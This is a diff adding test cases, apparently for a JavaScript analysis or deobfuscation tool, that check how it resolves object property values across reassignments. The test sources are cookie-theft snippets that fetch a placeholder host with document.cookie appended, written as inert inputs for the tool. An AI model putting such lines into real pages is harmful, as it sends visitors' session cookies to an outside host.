@@ -217,6 +217,19 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['-1===a?0:a*2'],
   },
   {
+    name: 'an object property read before it is replaced is not given the later value',
+    source: `var c={u:'https://h.example/a'};fetch(c.u+'?'+document.cookie);c.u='https://h.example/b'
+      function d(){}d.u='https://h.example/c';fetch(d.u+'?'+document.cookie);d.u='https://h.example/e'`,
+    has: ["fetch(c.u+'?'+document.cookie)", "fetch(d.u+'?'+document.cookie)"],
+    not: ['h.example/b?', 'h.example/e?'],
+  },
+  {
+    name: 'a property given its first value, or read by code that runs later, is read as set',
+    source: `var c={};c.u='https://h.example/a';fetch(c.u+'?'+document.cookie)
+      var d={u:'https://h.example/c'};onclick=function(){fetch(d.u+'?'+document.cookie)};d.u='https://h.example/e'`,
+    has: ['fetch("https://h.example/a?"+', 'fetch("https://h.example/e?"+'],
+  },
+  {
     name: 'code that runs after the last write reads the last value',
     source: `var t=['https://h.example/a'];t[0]='https://h.example/b';fetch(t[0]+'?'+document.cookie)
       var u=['https://h.example/c'];onclick=function(){fetch(u[0]+'?'+document.cookie)};u=['https://h.example/d']`,
